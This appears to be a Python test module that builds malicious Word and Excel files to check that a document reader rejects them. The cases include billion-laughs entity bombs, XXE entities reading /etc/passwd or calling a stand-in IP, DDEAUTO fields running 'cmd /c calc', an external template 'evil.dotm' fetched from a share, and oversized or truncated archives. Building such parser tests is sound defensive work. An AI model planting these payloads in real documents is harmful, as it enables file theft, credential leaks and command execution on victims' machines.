"""Word and Excel files with bombs in their XML, absurd dimensions, links, macros and entities."""

from __future__ import annotations

import io
import zipfile
from collections.abc import Iterator
from typing import Final

from tests.hostile.archives import zipped
from tests.hostile.case import (
    DISTRICT_XLSX,
    EDUCATION,
    NONE,
    READ,
    STOPPED,
    Hostile,
    sample,
)

_WORD: Final = b'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
_SHEET: Final = b'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"'
_ENDS: Final = (READ, NONE, "document.too_complex", "document.no_text")
_DOCX: Final = (*_ENDS, "docx.damaged", "archive.unsafe")
_XLSX: Final = (*_ENDS, "xlsx.damaged", "archive.unsafe")


def changed(name: str, parts: dict[str, bytes], more: dict[str, bytes] | None = None) -> bytes:
    """A bundled Office report with parts replaced and parts added."""
    with zipfile.ZipFile(io.BytesIO(sample(name))) as container:
        members = {member: container.read(member) for member in container.namelist()}
    members |= parts | (more or {})
    return zipped(members.items())


def part(name: str, member: str) -> bytes:
    """A part of a bundled Office report."""
    with zipfile.ZipFile(io.BytesIO(sample(name))) as container:
        return container.read(member)


def word(body: bytes, prologue: bytes = b"") -> bytes:
    """The bundled Word report with another body."""
    content = prologue + b"<w:document %s><w:body>%s</w:body></w:document>" % (_WORD, body)
    return changed(EDUCATION, {"word/document.xml": content})


def sheet(body: bytes, prologue: bytes = b"") -> bytes:
    """The bundled workbook with another first sheet."""
    content = prologue + b"<worksheet %s>%s</worksheet>" % (_SHEET, body)
    return changed(DISTRICT_XLSX, {"xl/worksheets/sheet1.xml": content})


def _text(text: bytes) -> bytes:
    return b"<w:p><w:r><w:t>%s</w:t></w:r></w:p>" % text


def _doctype(system: bytes) -> bytes:
    return b'<?xml version="1.0"?><!DOCTYPE x [%s]>' % system


def _laughs() -> bytes:
    return _doctype(
        b'<!ENTITY a0 "ha">'
        + b"".join(b'<!ENTITY a%d "%s">' % (n, b"&a%d;" % (n - 1) * 10) for n in range(1, 10))
    )


def _linked_word() -> bytes:
    """Template, picture and frame from a share, a macro, a field that starts a program."""
    relations = b"""<?xml version="1.0"?><Relationships
 xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="e1"
 Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate"
 Target="file://203.0.113.1/share/evil.dotm" TargetMode="External"/><Relationship Id="e2"
 Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/image"
 Target="\\\\203.0.113.1\\share\\a.png" TargetMode="External"/></Relationships>"""
    field = b'<w:p><w:fldSimple w:instr="DDEAUTO cmd &quot;/c calc&quot;"/></w:p>'
    body = part(EDUCATION, "word/document.xml")
    place = body.index(b"<w:body>") + len(b"<w:body>")
    return changed(
        EDUCATION,
        {"word/document.xml": body[:place] + field + body[place:]},
        {"word/_rels/settings.xml.rels": relations, "word/vbaProject.bin": b"\xd0\xcf" * 500},
    )


def _linked_sheet() -> bytes:
    link = b"""<?xml version="1.0"?><externalLink
 xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><ddeLink ddeService="cmd"
 ddeTopic="/c calc"/></externalLink>"""
    return changed(
        DISTRICT_XLSX,
        {},
        {"xl/externalLinks/externalLink1.xml": link, "xl/vbaProject.bin": b"\xd0\xcf" * 500},
    )


def _shared(length: int, cells: int) -> bytes:
    """One long string that many cells show."""
    strings = b"<sst %s><si><t>%s</t></si></sst>" % (_SHEET, b"x" * length)
    row = b'<row r="%d"><c r="A%d" t="s"><v>0</v></c></row>'
    rows = b"".join(row % (n, n) for n in range(1, cells + 1))
    body = b"<worksheet %s><sheetData>%s</sheetData></worksheet>" % (_SHEET, rows)
    return changed(
        DISTRICT_XLSX, {"xl/sharedStrings.xml": strings, "xl/worksheets/sheet1.xml": body}
    )


def _ole(stream: str) -> bytes:
    return b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600 + stream.encode("utf-16-le")


def _cut(name: str, share: float) -> bytes:
    data = sample(name)
    return data[: int(len(data) * share)]


def _table(cells: bytes) -> bytes:
    return b"<w:tbl><w:tr>%s</w:tr></w:tbl>" % cells


def _word_cases() -> Iterator[Hostile]:
    cell = b"<w:tc><w:tcPr><w:gridSpan w:val='%d'/></w:tcPr><w:p/></w:tc>"
    passwords = _doctype(b'<!ENTITY x SYSTEM "file:///etc/passwd">')
    unsafe = ("archive.unsafe",)
    yield Hostile("docx-billion-laughs.docx", lambda: word(_text(b"&a9;"), _laughs()), unsafe)
    yield Hostile("docx-external-entity.docx", lambda: word(_text(b"&x;"), passwords), unsafe)
    yield Hostile(
        "docx-entity-utf16.docx",
        lambda: changed(
            EDUCATION,
            {"word/document.xml": (passwords + b"<x>&x;</x>").decode().encode("utf-16")},
        ),
        unsafe,
    )
    yield Hostile(
        "docx-entity-utf32.docx",
        lambda: changed(
            EDUCATION, {"word/document.xml": (passwords + b"<x>&x;</x>").decode().encode("utf-32")}
        ),
        (*unsafe, "docx.damaged"),
    )
    yield Hostile("docx-text-bomb.docx", lambda: word(_text(b"x" * 190_000_000)), unsafe, False)
    yield Hostile("docx-number-bomb.docx", lambda: word(_text(b"1 " * 900_000)), _DOCX, False)
    yield Hostile("docx-100000-deep.docx", lambda: word(b"<w:sdt>" * 100_000), _DOCX)
    yield Hostile(
        "docx-tables-200-deep.docx",
        lambda: word(b"<w:tbl><w:tr><w:tc>" * 80 + b"<w:p/>" + b"</w:tc></w:tr></w:tbl>" * 80),
        _DOCX,
    )
    yield Hostile("docx-span-billion.docx", lambda: word(_table(cell % 10**9)), _DOCX)
    yield Hostile("docx-spans-of-1000.docx", lambda: word(_table(cell % 1000 * 2_000)), _DOCX)
    yield Hostile(
        "docx-million-paragraphs.docx",
        lambda: word(b"<w:p/>" * 330_000),
        ("document.too_complex", "archive.unsafe"),
        False,
    )
    yield Hostile(
        "docx-numbered-million.docx",
        lambda: word(_table(b"<w:tc><w:p/></w:tc>" * 90_000)),
        _DOCX,
        False,
    )
    yield Hostile(
        "docx-attributes.docx",
        lambda: word(b"<w:p " + b" ".join(b"a%d='1'" % n for n in range(90_000)) + b"/>"),
        _DOCX,
        False,
    )
    yield Hostile("docx-links-and-macros.docm", _linked_word, (READ,), twin=EDUCATION)
    yield Hostile(
        "docx-no-document.docx", lambda: zipped([("word/other.xml", b"<a/>")]), ("docx.damaged",)
    )
    yield Hostile(
        "docx-relations-loop.docx",
        lambda: changed(
            EDUCATION,
            {
                "_rels/.rels": b"<Relationships><Relationship Id='a' Type='officeDocument' Target='_rels/.rels'/></Relationships>"
            },
        ),
        (*_DOCX,),
    )
    yield Hostile("docx-encrypted.docx", lambda: _ole("EncryptedPackage"), ("docx.encrypted",))
    yield Hostile("doc-old.doc", lambda: _ole("WordDocument"), ("doc.legacy",))
    for share in (0.1, 0.5, 0.9, 0.999):
        yield Hostile(
            f"docx-cut-{share}.docx",
            lambda s=share: _cut(EDUCATION, s),
            ("docx.damaged", "archive.damaged"),
        )


def _sheet_cases() -> Iterator[Hostile]:
    cell = b'<row r="%d"><c r="%s%d"><v>1</v></c></row>'
    yield Hostile(
        "xlsx-billion-laughs.xlsx", lambda: sheet(b"&a9;", _laughs()), ("archive.unsafe",)
    )
    yield Hostile(
        "xlsx-external-entity.xlsx",
        lambda: changed(
            DISTRICT_XLSX,
            {
                "xl/sharedStrings.xml": _doctype(b'<!ENTITY x SYSTEM "http://203.0.113.1/">')
                + b"<sst>&x;</sst>"
            },
        ),
        ("archive.unsafe",),
    )
    yield Hostile(
        "xlsx-dimension-lie.xlsx",
        lambda: sheet(
            b'<dimension ref="A1:XFD1048576"/><sheetData>' + cell % (1, b"A", 1) + b"</sheetData>"
        ),
        _XLSX,
    )
    yield Hostile(
        "xlsx-far-corner.xlsx",
        lambda: sheet(
            b"<sheetData>"
            + cell % (1, b"A", 1)
            + cell % (1048576, b"XFD", 1048576)
            + b"</sheetData>"
        ),
        _XLSX,
    )
    yield Hostile(
        "xlsx-row-beyond.xlsx",
        lambda: sheet(
            b"<sheetData>" + cell % (99_999_999_999, b"A", 99_999_999_999) + b"</sheetData>"
        ),
        _XLSX,
    )
    yield Hostile(
        "xlsx-column-beyond.xlsx",
        lambda: sheet(b'<sheetData><row r="1"><c r="ZZZZZZ1"><v>1</v></c></row></sheetData>'),
        _XLSX,
    )
    yield Hostile(
        "xlsx-merged-whole.xlsx",
        lambda: sheet(
            b"<sheetData>"
            + cell % (1, b"A", 1)
            + b'</sheetData><mergeCells><mergeCell ref="A1:XFD1048576"/></mergeCells>'
        ),
        _XLSX,
    )
    yield Hostile(
        "xlsx-merges-overlap.xlsx",
        lambda: sheet(
            b"<sheetData>"
            + cell % (1, b"A", 1)
            + b"</sheetData><mergeCells>"
            + b'<mergeCell ref="A1:Z500"/>' * 5_000
            + b"</mergeCells>"
        ),
        _XLSX,
    )
    yield Hostile(
        "xlsx-merge-nonsense.xlsx",
        lambda: sheet(
            b"<sheetData>"
            + cell % (1, b"A", 1)
            + b'</sheetData><mergeCells><mergeCell ref="Z9:A1"/><mergeCell ref="?"/></mergeCells>'
        ),
        _XLSX,
    )
    yield Hostile(
        "xlsx-million-rows.xlsx",
        lambda: sheet(
            b"<sheetData>"
            + b"".join(cell % (n, b"A", n) for n in range(1, 500_000))
            + b"</sheetData>"
        ),
        (*_XLSX,),
        False,
    )
    yield Hostile(
        "xlsx-one-string-many-cells.xlsx",
        lambda: _shared(1_000_000, 20_000),
        (*_XLSX, "reader.memory"),
        False,
    )
    yield Hostile(
        "xlsx-string-bomb.xlsx", lambda: _shared(190_000_000, 1), ("archive.unsafe",), False
    )
    yield Hostile(
        "xlsx-strings-missing.xlsx",
        lambda: sheet(
            b'<sheetData><row r="1"><c r="A1" t="s"><v>999999999</v></c></row></sheetData>'
        ),
        _XLSX,
    )
    yield Hostile(
        "xlsx-number-long.xlsx",
        lambda: sheet(
            b'<sheetData><row r="1"><c r="A1"><v>'
            + b"9" * 1_000_000
            + b"</v></c></row></sheetData>"
        ),
        _XLSX,
    )
    yield Hostile(
        "xlsx-number-exponent.xlsx",
        lambda: sheet(
            b'<sheetData><row r="1"><c r="A1"><v>1e999999999</v></c><c r="B1"><v>NaN</v></c></row></sheetData>'
        ),
        _XLSX,
    )
    yield Hostile(
        "xlsx-date-beyond.xlsx",
        lambda: sheet(
            b'<sheetData><row r="1"><c r="A1" t="d"><v>9999999-99-99</v></c></row></sheetData>'
        ),
        _XLSX,
    )
    yield Hostile("xlsx-links-and-macros.xlsm", _linked_sheet, (READ,), twin=DISTRICT_XLSX)
    yield Hostile(
        "xlsx-no-workbook.xlsx", lambda: zipped([("xl/other.xml", b"<a/>")]), ("xlsx.damaged",)
    )
    yield Hostile(
        "xlsx-styles-many.xlsx",
        lambda: changed(
            DISTRICT_XLSX,
            {
                "xl/styles.xml": b"<styleSheet %s><cellXfs>%s</cellXfs></styleSheet>"
                % (_SHEET, b"<xf numFmtId='0'/>" * 100_000)
            },
        ),
        (*_XLSX, *STOPPED),
        False,
    )
    for share in (0.1, 0.5, 0.9, 0.999):
        yield Hostile(
            f"xlsx-cut-{share}.xlsx",
            lambda s=share: _cut(DISTRICT_XLSX, s),
            ("xlsx.damaged", "archive.damaged"),
        )


def cases() -> Iterator[Hostile]:
    """All of this kind."""
    yield from _word_cases()
    yield from _sheet_cases()
